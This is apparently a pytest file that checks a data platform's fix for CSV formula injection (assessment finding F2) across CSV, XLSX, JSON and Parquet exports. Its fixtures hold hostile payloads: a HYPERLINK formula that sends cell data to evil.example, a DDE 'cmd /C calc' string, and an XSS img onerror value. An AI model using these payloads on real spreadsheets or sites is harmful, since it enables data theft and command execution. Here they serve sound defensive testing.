"""Formula text from imported lists reaches no spreadsheet as a formula (assessment finding F2):
every CSV the platform hands out escapes it (a ``'`` in front), XLSX stores it as text, and
JSON and Parquet keep it as it is. A CSV the platform wrote loads back as the values it held.

The hostile list is the assessor's (``/tmp/walk_I/evil_stations.csv``), loaded as any station
list is; the expected cells are written out by hand.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from ecohub.ingest.stations import load_stations
from ecohub.store.db import connect
from tests.api import door_data as d
from tests.api.door_data import Door

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_LIST = (
    "station_id,name,name_en,network,region_code,lon,lat\n"
    'EvilA,"=HYPERLINK(""http://evil.example/?d=""&A1,""点此查看"")",'
    '"<img src=x onerror=alert(1)>",air,110105,116.47,39.93\n'
    'EvilB,"@SUM(1+1)*cmd|\' /C calc\'!A0","+1+1",air,110105,116.48,39.94\n'
    "EvilC,-2+3,-5,air,110105,-116.49,39.95\n"
)


@pytest.fixture(scope="module")
def door(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Door]:
    tmp = Path(tmp_path_factory.mktemp("formulas"))
    for door in d.serve(tmp):
        (tmp / "evil.csv").write_text(EVIL_LIST, encoding="utf-8")
        assert load_stations(door.con, tmp / "evil.csv").rejected == 0
        door.con.execute(
            "UPDATE source SET name = '=1+2', address = '-2+3+cmd|'' /C calc''!A0' "
            "WHERE source_code = ?",
            [d.SRC_OUT],
        )
        door.con.execute("UPDATE source_record SET record_id = '@SUM(1+1)' WHERE system = 'permit'")
        yield door


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_anonymous_bulk_csv_escapes_formula_text(door: Door) -> None:
    r = TestClient(door.app).get("/open/v1/bulk/stations.csv")
    assert r.status_code == 200
    lines = r.content.decode("utf-8").splitlines()
    assert lines[0] == '\ufeff"station_id","name","name_en","network","region_code","basin",' + (
        '"waterbody","lon","lat"'
    )
    assert lines[2:5] == [
        '"EvilA","\'=HYPERLINK(""http://evil.example/?d=""&A1,""点此查看"")",'
        '"<img src=x onerror=alert(1)>","air","110105",,,116.47,39.93',
        '"EvilB","\'@SUM(1+1)*cmd|\' /C calc\'!A0","\'+1+1","air","110105",,,116.48,39.94',
        # "-2+3" is a formula, "-5" a number held as text, -116.49 a number: only the first.
        '"EvilC","\'-2+3","-5","air","110105",,,-116.49,39.95',
    ]


def test_json_and_parquet_keep_the_values_as_they_are(door: Door) -> None:
    c = TestClient(door.app)
    items = {s["station_id"]: s for s in c.get("/open/v1/stations").json()["items"]}
    parquet = pq.read_table(io.BytesIO(c.get("/open/v1/bulk/stations.parquet").content))
    rows = {s["station_id"]: s for s in parquet.to_pylist()}
    for got in (items, rows):
        assert got["EvilA"]["name"] == HYPERLINK
        assert (got["EvilB"]["name"], got["EvilB"]["name_en"]) == (DDE, "+1+1")
        assert (got["EvilC"]["name"], got["EvilC"]["name_en"]) == ("-2+3", "-5")


def test_a_downloaded_csv_loads_back_as_the_values_it_held(door: Door, tmp_path: Path) -> None:
    """The bulk file of another ecohub (or this one's, fixed by hand and loaded again) gives the
    original names, not names with a ' in front."""
    download = tmp_path / "stations.csv"
    download.write_bytes(TestClient(door.app).get("/open/v1/bulk/stations.csv").content)
    con = connect(tmp_path / "other.duckdb")
    try:
        assert load_stations(con, download).rejected == 0
        got = dict(
            (r[0], r[1:])
            for r in con.execute("SELECT station_id, name, name_en, lon FROM station").fetchall()
        )
    finally:
        con.close()
    assert got["EvilA"] == (HYPERLINK, "<img src=x onerror=alert(1)>", 116.47)
    assert got["EvilB"] == (DDE, "+1+1", 116.48)
    assert got["EvilC"] == ("-2+3", "-5", -116.49)


def test_alert_csv_escapes_the_registry_names(door: Door) -> None:
    c = d.client(door, "admin")
    rows = _rows(c.get("/api/v1/alerts", params={"format": "csv"}).content)
    mine = [r for r in rows if r["source_code"] == d.SRC_OUT]
    assert mine and all(r["source_name"] == "'=1+2" for r in mine)
    assert all(r["source_address"] == "'-2+3+cmd|' /C calc'!A0" for r in mine)
    js = c.get("/api/v1/alerts").json()["items"]
    assert {a["source_name"] for a in js if a["source_code"] == d.SRC_OUT} == {"=1+2"}


def test_registry_codes_csv_escaped_and_xlsx_text(door: Door) -> None:
    c = d.client(door, "admin")
    rows = _rows(c.get("/api/v1/registry/codes", params={"format": "csv"}).content)
    assert {"system": "permit", "record_id": "'@SUM(1+1)", "source_code": ""} in rows
    r = c.get("/api/v1/registry/codes", params={"format": "xlsx"})
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    cells = [(cell.value, cell.data_type) for cell in ws["B"]]
    assert ("@SUM(1+1)", "s") in cells
    assert all(t == "s" for _, t in cells)


def test_a_reject_file_escapes_the_cells_it_quotes(door: Door, tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "station_id,name,network,region_code,lon,lat\n"
        "BadA,甲,air,110105,=1+1,39.9\n"
        "BadB,乙,air,110105,-500,39.9\n",
        encoding="utf-8",
    )
    report = load_stations(door.con, bad)
    assert report.rejected == 2 and report.reject_path is not None
    rows = _rows(Path(report.reject_path).read_bytes())
    assert [(r["row"], r["column"], r["value"]) for r in rows] == [
        ("2", "lon", "'=1+1"),
        ("3", "lon", "-500"),
    ]
